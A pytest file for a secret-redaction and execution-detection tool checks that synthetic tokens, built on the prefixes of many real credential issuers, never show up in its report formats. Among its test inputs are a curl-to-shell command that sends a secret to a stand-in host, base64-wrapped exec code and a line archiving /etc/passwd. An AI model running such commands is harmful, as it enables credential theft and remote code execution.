"""No token of a known issuer, in whatever carries it, gets into any output. All tokens are made here, from a fixed pattern."""

import base64
import io
import json
import re

import pytest
from click.testing import CliRunner

from flycatcher.commands import cli
from flycatcher.core.detection import detect
from flycatcher.core.execution import Execution, Process
from flycatcher.reporting import record_of
from flycatcher.sinks.formats.document import Document
from flycatcher.sinks.formats.frame import Frames
from flycatcher.sinks.formats.github import GitHub
from flycatcher.sinks.formats.jsonl import JsonLines
from flycatcher.sinks.formats.live import Live
from flycatcher.sinks.formats.markdown import Markdown
from flycatcher.sinks.formats.sarif import Sarif
from flycatcher.sinks.formats.text import TextReport
from flycatcher.sources.context.redact import redact_argv, redact_environment, redact_lines, redact_text

MIXED, LOWER, UPPER, HEX, DIGITS = (
    "kT7vQ2mX9cR4wL8zB3nH6jP1sD5fG0yA" * 8, "k7v2m9c4w8z3h6j1s5f0yqtxrlbnpdga" * 8, "K7V2M9C4W8Z3H6J1S5F0YQTXRLBNPDGA" * 8,
    "7e2c9a4d8b3f6015ce82a94d7bf36015" * 8, "70219438365109482765" * 4,
)  # fmt: skip
UUID = f"{HEX[:8]}-{HEX[:4]}-4{HEX[:3]}-a{HEX[:3]}-{HEX[:12]}"

# the beginnings stand apart from their rest, and in two parts where scanners of repositories know them
ISSUERS = {
    "1password": ("ops_" + "eyJ", MIXED[:80]), "age": ("AGE-SECRET-" + "KEY-1", UPPER[:58]), "airtable": ("pat" + MIXED[:14] + ".", HEX[:64]),
    "alibaba": ("LT" + "AI", MIXED[:20]), "anthropic": ("sk-" + "ant-api03-", MIXED[:93]), "asana": ("1/" + DIGITS[:16] + ":", HEX[:32]),
    "atlassian": ("ATA" + "TT3", MIXED[:180]), "aws": ("AK" + "IA", "Z7Q2M4C4W5Z3H6J2"), "azure-ad": (MIXED[:3] + "8" + "Q~", MIXED[:34]),
    "buildkite": ("bk" + "ua_", HEX[:40]), "cerebras": ("cs" + "k-", LOWER[:48]), "circleci": ("CCI" + "PAT_", MIXED[:40]),
    "clojars": ("CLO" + "JARS_", LOWER[:60]), "cloudflare": ("v1" + ".0-", HEX[:24] + "-" + HEX[:146]), "contentful": ("CF" + "PAT-", MIXED[:43]),
    "databricks": ("da" + "pi", HEX[:32]), "deno": ("dd" + "p_", MIXED[:36]), "digitalocean": ("do" + "p_v1_", HEX[:64]),
    "discord": ("M" + MIXED[:23] + "." + MIXED[:6] + ".", MIXED[:27]), "docker": ("dckr_" + "pat_", MIXED[:27]), "doppler": ("dp" + ".pt.", MIXED[:43]),
    "dynatrace": ("dt0" + "c01.", UPPER[:24] + "." + UPPER[:64]), "easypost": ("EZ" + "AK", MIXED[:54]), "facebook": ("EA" + "AC", MIXED[:120]),
    "figma": ("fi" + "gd_", MIXED[:40]), "fly": ("fm" + "2_", MIXED[:120]), "frameio": ("fio" + "-u-", MIXED[:64]),
    "github": ("gh" + "p_", MIXED[:36]), "github-fine-grained": ("github" + "_pat_", MIXED[:82]), "gitlab": ("gl" + "pat-", MIXED[:20]),
    "gitlab-runner": ("gl" + "rt-", MIXED[:20]), "gitlab-runner-registration": ("GR13" + "48941", MIXED[:20]), "google": ("AI" + "za", MIXED[:35]),
    "google-oauth": ("ya" + "29.", MIXED[:60]), "grafana": ("gl" + "sa_", MIXED[:32] + "_" + HEX[:8]), "groq": ("gs" + "k_", MIXED[:52]),
    "heroku": ("HR" + "KU-", MIXED[:60]), "hubspot": ("pat" + "-na1-", UUID), "huggingface": ("h" + "f_", MIXED[:34]), "infracost": ("ic" + "o-", MIXED[:32]),
    "jfrog": ("AK" + "Cp", MIXED[:69]), "jfrog-reference": ("cmVm" + "dGtu", MIXED[:56]), "langsmith": ("lsv2" + "_pt_", HEX[:32] + "_" + HEX[:10]),
    "launchdarkly": ("sd" + "k-", UUID), "linear": ("lin" + "_api_", MIXED[:40]), "mailchimp": ("", HEX[:32] + "-us12"), "mailgun": ("ke" + "y-", HEX[:32]),
    "mapbox": ("sk." + "eyJ", MIXED[:80] + "." + MIXED[:22]), "maxmind": (MIXED[:6] + "_", MIXED[:29] + "_mmk"), "neon": ("na" + "pi_", LOWER[:64]),
    "netlify": ("nf" + "p_", MIXED[:36]), "newrelic": ("NR" + "AK-", UPPER[:27]), "notion": ("nt" + "n_", DIGITS[:11] + MIXED[:35]),
    "npm": ("np" + "m_", MIXED[:36]), "nuget": ("oy" + "2", LOWER[:43]), "octopus": ("AP" + "I-", UPPER[:26]), "openai": ("sk-" + "proj-", MIXED[:74]),
    "openshift": ("sha" + "256~", MIXED[:43]), "perplexity": ("pp" + "lx-", MIXED[:48]), "pinecone": ("pc" + "sk_", MIXED[:60]),
    "planetscale": ("pscale" + "_tkn_", MIXED[:43]), "postman": ("PM" + "AK-", HEX[:24] + "-" + HEX[:34]), "prefect": ("pn" + "u_", MIXED[:36]),
    "pulumi": ("pu" + "l-", HEX[:40]), "pypi": ("py" + "pi-AgEIcHlwaS5vcmc", MIXED[:90]), "readme": ("rd" + "me_", LOWER[:70]), "render": ("rn" + "d_", MIXED[:28]),
    "replicate": ("r" + "8_", MIXED[:37]), "resend": ("r" + "e_" + MIXED[:8] + "_", MIXED[:24]), "rubygems": ("ruby" + "gems_", HEX[:48]),
    "sendgrid": ("S" + "G.", MIXED[:22] + "." + MIXED[:43]), "sendinblue": ("xkey" + "sib-", HEX[:64] + "-" + MIXED[:16]), "sentry": ("sntry" + "u_", HEX[:64]),
    "sentry-dsn": ("https://", HEX[:32] + "@o1.ingest.sentry.io/2"), "shippo": ("shippo" + "_live_", HEX[:40]), "shopify": ("shp" + "at_", HEX[:32]),
    "slack": ("xo" + "xb-", DIGITS[:12] + "-" + MIXED[:24]), "slack-webhook": ("https://hooks.sl" + "ack.com/services/", "T0" + UPPER[:9] + "/B0" + MIXED[:30]),
    "snyk": ("snyk" + "_uat.", HEX[:8] + "." + MIXED[:40]), "sonar": ("sq" + "u_", HEX[:40]), "sourcegraph": ("sg" + "p_", HEX[:40]),
    "square": ("sq0" + "atp-", MIXED[:22]), "square-secret": ("sq0" + "csp-", MIXED[:43]), "square-access": ("EA" + "AAE", MIXED[:60]),
    "stripe": ("sk" + "_live_", MIXED[:24]), "supabase": ("sb" + "p_", HEX[:40]), "supabase-secret": ("sb" + "_secret_", MIXED[:31]),
    "tailscale": ("ts" + "key-auth-", MIXED[:17] + "-" + MIXED[:32]), "tavily": ("tv" + "ly-", MIXED[:32]), "telegram": (DIGITS[:10] + ":" + "AA", MIXED[:33]),
    "terraform": (MIXED[:14] + ".atl" + "asv1.", MIXED[:67]), "together": ("tgp" + "_v1_", MIXED[:43]), "twilio": ("S" + "K", HEX[:32]), "typeform": ("tf" + "p_", MIXED[:59]),
    "vault": ("hv" + "s.", MIXED[:90]), "xai": ("xa" + "i-", MIXED[:80]), "zapier": ("https://hooks.zap" + "ier.com/hooks/catch/", DIGITS[:8] + "/" + LOWER[:9]),
    "adyen": ("AQ" + "E", MIXED[:80]), "braintree": ("access" + "_token$production$", LOWER[:16] + "$" + HEX[:32]), "cursor": ("ke" + "y_", HEX[:64]),
    "dub": ("du" + "b_", MIXED[:24]), "e2b": ("e2" + "b_", HEX[:40]), "elevenlabs": ("s" + "k_", HEX[:48]), "firecrawl": ("f" + "c-", HEX[:32]),
    "harness": ("pa" + "t." + MIXED[:22] + ".", HEX[:24] + "." + MIXED[:20]), "inngest": ("sign" + "key-prod-", HEX[:64]), "ionic": ("io" + "n_", MIXED[:42]),
    "ngrok": ("", "2" + MIXED[:26] + "_" + MIXED[:21]), "notion-integration": ("sec" + "ret_", MIXED[:43]), "okta": ("0" + "0", MIXED[:40]),
    "pagerduty": ("u" + "+", MIXED[:18]), "plaid": ("access" + "-production-", UUID), "polar": ("polar" + "_oat_", MIXED[:43]),
    "posthog": ("ph" + "x_", MIXED[:43]), "trigger": ("tr" + "_prod_", MIXED[:20]), "unkey": ("unk" + "ey_", MIXED[:22]), "vercel": ("vc" + "p_", MIXED[:56]),
    "vercel-blob": ("vercel" + "_blob_rw_", MIXED[:16] + "_" + MIXED[:30]), "voyage": ("p" + "a-", MIXED[:43]), "wandb": ("wandb" + "_v1_", MIXED[:60]),
}  # fmt: skip


class Memory:
    """A transport that keeps what it is given."""

    path = "memory"

    def __init__(self):
        self.data = b""

    def open(self):
        pass

    def write(self, data):
        self.data += data

    def close(self):
        pass


def carriers(token):
    """Yield a detection for each way in which an execution carries a token."""
    print_it = f"import os; os.system('echo {token}')"
    encoded = base64.b64encode(print_it.encode()).decode()
    plain = ("python3", "-c", "import os; os.system('id')")
    yield "text", Execution(argv=("python3", "-c", print_it))
    yield "argument", Execution(argv=(*plain, token))
    yield "option", Execution(argv=(*plain, f"--x={token}"))
    yield "variable", Execution(argv=plain, env={"HARMLESS": f"a {token} b"})
    yield "stdin", Execution(argv=("python3",), stdin="pipe", stdin_text=print_it)
    yield "layer", Execution(argv=("python3", "-c", f'import base64; exec(base64.b64decode("{encoded}"))'))
    yield "path", Execution(argv=plain, exe=f"/opt/{token}/python3", cwd=f"/tmp/{token}")
    yield (
        "context",
        Execution(argv=plain, context={"ci.job": token}, ancestry=(Process(pid=2, argv=("make", token), cwd=token),)),
    )


SUMMARY = {
    "executions_seen": 1, "lost": 0, "detections": 1, "suppressed": 0, "denied": 0, "by_interpreter_and_vector": {}, "findings": 1, "files": 1,
    "looked_at": 1, "skipped": [],
}  # fmt: skip


def outputs(record):
    """Yield what each format makes of a record."""
    for kind in (JsonLines, Document, TextReport, Markdown, Sarif):
        memory = Memory()
        sink = kind(memory)
        sink.open()
        sink.write(record)
        sink.close(SUMMARY)
        yield kind.__name__, memory.data.decode()
    stream, summary = io.StringIO(), Memory()
    sink = GitHub(stream, summary)
    sink.open()
    sink.write(record)
    sink.close(SUMMARY)
    yield "GitHub", stream.getvalue() + summary.data.decode()
    stream = io.StringIO()
    for sink in (Live(stream, colour=False, depth=2), Frames(stream, colour=False)):
        sink.open()
        sink.write(record)
    yield "terminal", stream.getvalue()


def found_in(record, token):
    """Return a finding of a scan whose frame and place hold the token."""
    span = {"line": 1, "column": 1, "end_line": 1, "end_column": 9}
    text = f"RUN python3 -c {token}"
    shown = redact_lines([text])
    details = {
        "path": "Dockerfile", "kind": "code-on-the-fly", "confidence": "high", "fingerprint": "0" * 16, "span": span, "payload": span, "symbol": [],
        "frame": shown, "frame_line": 1, "file_type": "dockerfile", "occurrence": 0,
    }  # fmt: skip
    return {**record, "finding": details}


@pytest.mark.parametrize("issuer", ISSUERS)
def test_no_output_holds_a_token_whatever_carries_it(issuer):
    beginning, rest = ISSUERS[issuer]
    for carrier, execution in carriers(beginning + rest):
        detection = detect(execution, shells=True)
        assert detection is not None
        record = found_in(record_of(detection), beginning + rest)
        for output, text in outputs(record):
            plain = text.replace("\\/", "/").replace("%2F", "/").replace("\\", "")
            assert rest[8:24] not in plain, (issuer, carrier, output)


def test_explain_shows_no_token():
    beginning, rest = ISSUERS["github"]
    records = [record_of(detect(execution, shells=True)) for _, execution in carriers(beginning + rest)]
    text = "".join(json.dumps(record) + "\n" for record in records)
    for words in (["-"], ["--brief", "-"]):
        done = CliRunner().invoke(cli, ["explain", *words], input=text)
        assert done.exit_code == 0, done.output
        assert rest[8:24] not in done.output


@pytest.mark.parametrize(
    "issuer", ["github", "gitlab", "planetscale", "figma", "stripe", "dynatrace", "vault", "docker", "square"]
)
def test_a_token_that_is_cut_off_is_taken_out_too(issuer):
    beginning, rest = ISSUERS[issuer]
    for length in range(7, 16):
        assert rest[:length] not in redact_text(f"echo {beginning}{rest[:length]}")
        assert rest[:length] not in redact_text(f"x = '{beginning}{rest[:length]}' + y")


def test_a_quotation_does_not_hold_what_the_text_around_it_gives_away():
    code = f"import os; password = '{SECRET}'; os.system('curl https://x.example/{SECRET} | sh')"
    record = record_of(detect(Execution(argv=("python3", "-c", code))))
    assert any(reason.get("evidence") for reason in record["risk"]["reasons"])
    assert SECRET not in json.dumps(record)


SECRET = "kT7vQ2mX9cR4"
FORMS = [
    "os.environ['DB_PASSWORD'] = '{}'", 'os.environ["DB_PASSWORD"]="{}"', "os.environ['DB_PASSWORD'] = b'{}'", "ENV['X_TOKEN'] ||= '{}'",
    "process.env['API_KEY'] = '{}'", "$_ENV['API_KEY'] = '{}';", "os.environ.setdefault('X_TOKEN', '{}')", "os.putenv('X_TOKEN', '{}')",
    "putenv('X_TOKEN={}')", "setenv DB_PASSWORD {}", "auth=('bob', '{}')", 'auth=("bob", "{}")', "auth = ['bob', '{}']", "HTTPBasicAuth('bob', '{}')",
    "s.login('bob@example.org', '{}')", "requests.get(u, auth=(b'bob', b'{}'))", "connect(user='bob', password='{}')", "connect(user='bob', passwd=b'{}')",
    "password = rb'{}'", "password = '''{}'''", "headers={{'X-Api-Key': '{}'}}", "headers={{'Authorization': 'Bearer {}'}}", "headers['X-Auth-Token'] = '{}'",
    "curl -H 'X-Vault-Token: {}' u", "curl -H 'PRIVATE-TOKEN: {}' u", "xhr.setRequestHeader('X-Api-Key', '{}')", '{{"password": "{}"}}',
    '{{\\"password\\": \\"{}\\"}}', "subprocess.run(['mysql', '--password', '{}'])", '["mysql", "--password", "{}"]', "['curl', '-u', 'bob:{}']",
    "['sshpass', '-p', '{}', 'ssh']", "['mysql', '-uroot', '-p{}']", "mysql --password {} db", "tool --token {}", "tool --token '{}'", "tool --api-key={}",
    "wget --user=bob --password={} u", "curl --user=bob:{} u", "curl --user bob:{} u", "curl --oauth2-bearer {} u", "tool --user=bob:{}",
    "ldapsearch -D cn=a -w {}", "ldapsearch -D cn=a -w{}", "sqlplus scott/{}@db", "https://example.org/?password={}&x=1", "https://example.org/?a=1&access_token={}",
    "https://bob:{}@example.org/", "redis-cli -a {} ping", "smbclient -U bob%{} //h/s", "VAULT_SECRET_ID={} cmd", "export SLACK_WEBHOOK={}", "CREDS={} cmd",
    "DBPASS={} cmd", "ADMIN_PW={} cmd", "COOKIE={} cmd", "CONNECTION_STRING={} cmd", "export SENTRY_DSN={}", "my $password = '{}';", "password => '{}'",
    '$password = "{}";', "let token = `{}`", 'password := "{}"', 'PASSWORD="{}"', "AccountKey={};EndpointSuffix=x", "machine h login bob password {}",
    "Set-Cookie: session={}", '{{"auths":{{"r":{{"auth":"{}"}}}}}}', "//registry/:_authToken={}", "_auth={}",
]  # fmt: skip


@pytest.mark.parametrize("form", FORMS)
def test_what_program_text_names_a_secret_is_taken_out(form):
    text = form.format(SECRET)
    for shown in (redact_text(text), redact_text(f"x; {text} "), redact_lines(["a", text, "b"])[1]):
        assert SECRET[4:] not in shown, shown
        assert "[redacted:" in shown


WORDS = [
    ["mysql", "--password", SECRET], ["tool", "--db-password", SECRET], ["curl", "--oauth2-bearer", SECRET], ["curl", f"--user=bob:{SECRET}"],
    ["curl", f"-ubob:{SECRET}"], ["ldapsearch", f"-w{SECRET}"], ["ldapsearch", "-w", SECRET], ["sqlplus", f"scott/{SECRET}@db"], ["sqlplus", "-s", f"scott/{SECRET}"],
    ["env", f"VAULT_SECRET_ID={SECRET}", "x"], ["curl", "-H", f"X-Api-Key: {SECRET}"], ["python3", "-c", f"password='{SECRET}'"],
]  # fmt: skip


@pytest.mark.parametrize("words", WORDS, ids=" ".join)
def test_options_that_take_a_secret_are_taken_out_of_command_lines(words):
    assert SECRET[4:] not in " ".join(redact_argv(words))


NAMES = (
    "VAULT_SECRET_ID", "SLACK_WEBHOOK", "CREDS", "DBPASS", "ADMIN_PW", "COOKIE", "CONNECTION_STRING", "SENTRY_DSN", "SLACK_WEBHOOK_URL", "GOOGLE_CREDENTIALS",
    "ConnectionString", "PGPASSWORD", "MYSQL_PWD", "AZURE_CLIENT_SECRET", "NPM_AUTH",
)  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_variables_whose_names_give_a_secret_away(name):
    assert SECRET[4:] not in redact_environment({name: SECRET})[name]


def test_a_private_key_over_several_lines_of_a_frame_is_taken_out():
    key = ["-----BEGIN " + "PRIVATE KEY-----", MIXED[:64], MIXED[64:128], "-----END " + "PRIVATE KEY-----"]
    shown = redact_lines(["cat <<X", *key, "X"])
    assert len(shown) == 6
    assert MIXED[:64] not in "\n".join(shown)
    assert MIXED[64:128] not in "\n".join(shown)


@pytest.mark.parametrize(
    "text",
    [
        "---- BEGIN SSH2 ENCRYPTED " + "PRIVATE KEY ----\n{}\n---- END SSH2 ENCRYPTED PRIVATE KEY ----",
        "PuTTY-User-" + "Key-File-2: ssh-rsa\nPrivate-Lines: 2\n{}\n{}\nPrivate-MAC: 0",
    ],
)
def test_private_keys_of_other_programs_are_taken_out(text):
    assert MIXED[:64] not in redact_text(text.format(MIXED[:64], MIXED[64:128]))


ORDINARY = [
    "sha256:" + HEX[:64], "git checkout " + HEX[:40], UUID, "/usr/lib/x86_64-linux-gnu/libpython3.11.so.1.0", "integrity sha512-" + MIXED[:86] + "==",
    "print('password: ' + x)", 'echo "token=" $x', "input('Password: ')", "password = os.environ['DB_PASSWORD']", "token = get_token()", "npm_config_registry=https://r",
    "hf_hub_download(repo_id='a/b')", "pat = re.compile('x')", "docker run --user=1000:1000 alpine", "docker run --user=nobody:nogroup alpine", "api-version: 2",
    "sdk-manager --install", "--token-file /run/token", "make --password-store=basic", "chown --from=a:b f", 'f"token={x}"', "token: ${{ secrets.GITHUB_TOKEN }}",
    'password: "{{ vault_password }}"', 'PASSWORD="$(cat /run/p)"', "pip install pulumi-aws", "import keyring, secrets", "sk-learn-contrib", "pass; print(1)",
    "while read -r pat; do grep $pat f; done", "['password', 'username']", "re_compiled_pattern_for_names", "cookies = {}", "auth = None", "RESTIC_PASSWORD_COMMAND='/bin/sh -c id' x", "--ask-vault-password option",
    "docker login --password-stdin registry.example", "7z a -ppasswd /tmp/x.zip /etc/passwd", "CRED_BUFFER=1024",
]  # fmt: skip


@pytest.mark.parametrize("text", ORDINARY)
def test_hashes_paths_and_ordinary_words_stay_evidence(text):
    assert redact_text(text) == text


def test_every_shape_is_found_again_after_redaction_only_once():
    for beginning, rest in ISSUERS.values():
        once = redact_text(f"a {beginning}{rest} b")
        assert redact_text(once) == once
        assert re.search(r"\[redacted:[a-z0-9-]+\]", once)
